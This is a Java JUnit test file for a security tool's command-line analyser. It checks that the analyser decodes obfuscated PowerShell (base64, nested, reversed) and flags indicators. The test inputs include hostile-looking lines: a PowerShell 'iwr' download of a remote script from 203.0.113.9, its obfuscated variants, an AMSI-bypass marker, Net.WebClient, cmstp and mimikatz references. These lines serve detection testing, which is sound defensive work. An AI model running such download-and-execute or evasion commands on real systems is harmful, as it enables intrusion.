package seldom.analytics.commandline;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import seldom.analytics.content.Content;
import seldom.analytics.content.Problems;
import seldom.analytics.content.ShippedContent;
import seldom.analytics.incident.Weighing;
import seldom.model.command.Band;
import seldom.model.command.CommandAnalysis;
import seldom.model.incident.Verdict;

/// The acceptance checks of the published PsExec playbook that are about command lines, by their
/// numbers. The whole table of check 6 is [LegacyTest].
class PublishedCommandChecksTest {
  private static final String HIDDEN = "Write-Host 'found 203.0.113.9 here'";
  private static final Weighing WEIGHING =
      Weighing.read(Content.read(ShippedContent.texts(), new Problems()), new Problems());

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(UTF_16LE));
  }

  private static CommandAnalysis analysed(String line) {
    return assertTimeoutPreemptively(
        Duration.ofSeconds(20), () -> Analysers.SHIPPED.analyse(line), "it takes too long");
  }

  private static void shows(String line) {
    CommandAnalysis a = analysed(line);
    assertThat(a.indicators().toString()).as(line).contains("203.0.113.9");
    assertThat(a.layers()).hasSizeGreaterThan(1);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "base64 | x VwByAGkAdABlAC0ASABvAHMAdAAgADEA",
        "suspiciousParameters | tool -nop",
        "AMSI | x amsiInitFailed",
        "foundIndicators | x 203.0.113.9",
        "maliciousTools | psexec -x",
        "networkActivity | New-Object Net.WebClient",
        "SuspiciousLolbinExecution | cmstp /s a.inf",
        "SuspiciousCmdPathAndArguments | C:\\Temp\\x.exe tasklist"
      })
  void check3OneFlagAloneIsSetAndRaisesNoSeverity(String flag, String line) {
    CommandAnalysis a = analysed(line);
    assertThat(a.flags()).hasSize(8);
    a.flags().forEach((name, set) -> assertThat(set).as(name).isEqualTo(name.equals(flag)));
    String band = a.band().text().toLowerCase(Locale.ROOT);
    Weighing.Outcome alone = WEIGHING.weigh(Map.of("band", band, "severity", "high"));
    assertThat(alone.verdict()).as("%s", alone).isNotEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void check5EncodedOnceAndTwice() {
    String once = "powershell -enc " + base64(HIDDEN);
    shows(once);
    shows("powershell -enc " + base64(once));
  }

  @Test
  void check5Reversed() {
    String plain = "powershell -c iwr http://203.0.113.9/a.ps1";
    shows(new StringBuilder(plain).reverse().toString());
    String url = new StringBuilder("http://203.0.113.9/a.ps1").reverse().toString();
    shows("powershell -c \"$x='" + url + "'; iwr (-join $x[-1..-99])\"");
  }

  @Test
  void check5NestedPowershell() {
    shows("cmd /c powershell -c \"powershell -nop -e " + base64(HIDDEN) + "\"");
  }

  @Test
  void check5EveryPrefixOfTheSwitch() {
    List<String> prefixes = new ArrayList<>();
    for (int n = 1; n <= "EncodedCommand".length(); n++) {
      prefixes.add("-" + "EncodedCommand".substring(0, n));
    }
    assertThat(prefixes).hasSize(14);
    prefixes.forEach(p -> shows("powershell " + p + " " + base64(HIDDEN)));
  }

  @Test
  void check5QuotedTokenAndBrokenPadding() {
    shows("powershell -enc \"" + base64(HIDDEN) + "\"");
    shows("powershell -enc '" + base64(HIDDEN) + "'");
    shows("powershell -enc " + base64(HIDDEN + "!").replace("=", ""));
  }

  @Test
  void check5TokenOfAMegabyteIsBoundedAndSaid() {
    CommandAnalysis a = analysed("powershell -enc " + "QUFB".repeat(1 << 18));
    assertThat(a.limits()).isNotEmpty();
  }

  @Test
  void check5Base64ThatMakesItselfAgainEnds() {
    String text = "powershell -enc ";
    for (int i = 0; i < 12; i++) {
      text = "powershell -enc " + base64(text);
    }
    CommandAnalysis a = analysed(text);
    assertThat(a.layers()).hasSizeLessThanOrEqualTo(48);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "dir C:\\Temp | 25.0 | LOW",
        "taskkill /im mimikatz.exe | 50.0 | MEDIUM",
      })
  void check6TheBordersBelongToTheLowerBand(String line, double score, Band band) {
    CommandAnalysis a = Analysers.SHIPPED.legacy(line);
    assertThat(a.score()).isEqualTo(score);
    assertThat(a.band()).isEqualTo(band);
  }

  @ParameterizedTest
  @ValueSource(strings = {"tool 10.1.2.3", "tool 192.168.7.9", "tool 172.31.0.1", "tool fd00::7"})
  void check7APrivateAddressIsNoIndicatorInEitherMode(String line) {
    assertThat(analysed(line).indicators()).isEmpty();
    assertThat(analysed(line).flags()).containsEntry("foundIndicators", false);
    assertThat(Analysers.SHIPPED.legacy(line).parts()).isEmpty();
  }
}
